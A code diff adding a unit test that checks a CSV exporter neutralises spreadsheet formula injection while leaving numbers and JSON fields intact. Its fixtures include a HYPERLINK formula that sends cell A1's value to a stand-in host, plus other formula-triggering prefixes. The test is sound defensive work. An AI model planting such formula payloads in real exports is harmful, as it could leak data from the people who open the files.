@@ -148,3 +148,19 @@ describeEachDialect('data feed', (ctx) => {
     }
   });
 });
+
+it('neutralises CSV cells a spreadsheet would run as formulas; numbers stay numbers', () => {
+  const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
+  const csv = toCsvLines('recognitions', hostile.map((note, i) => ({ id: i + 1, unitId: '13510@2025-03', level: 'ntm', decisionNo: note, signer: 'Nguyễn Văn A', note, isDemo: false })));
+  const rows = csv.split('\r\n').filter((r) => r !== '');
+  expect(rows).toHaveLength(hostile.length);
+  for (const [i, row] of rows.entries()) {
+    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"(.*)"$/s, '$1').replace(/""/g, '"'));
+    const at = CSV_COLUMNS.recognitions.indexOf('note');
+    expect(cells[at]).toBe(`'${hostile[i]}`);
+    expect(cells[CSV_COLUMNS.recognitions.indexOf('decisionNo')]).toBe(`'${hostile[i]}`);
+  }
+  const numbers = toCsvLines('evaluations', [{ reviewId: 7, criteriaMet: -1, indicatorsMet: 0, criteria: [{ code: '=1' }] }]);
+  expect(numbers.split(',').slice(0, 6)).toEqual(['7', '', '', '', '', '-1']);
+  expect(numbers).toContain('"[{""code"":""=1""}]"');
+});
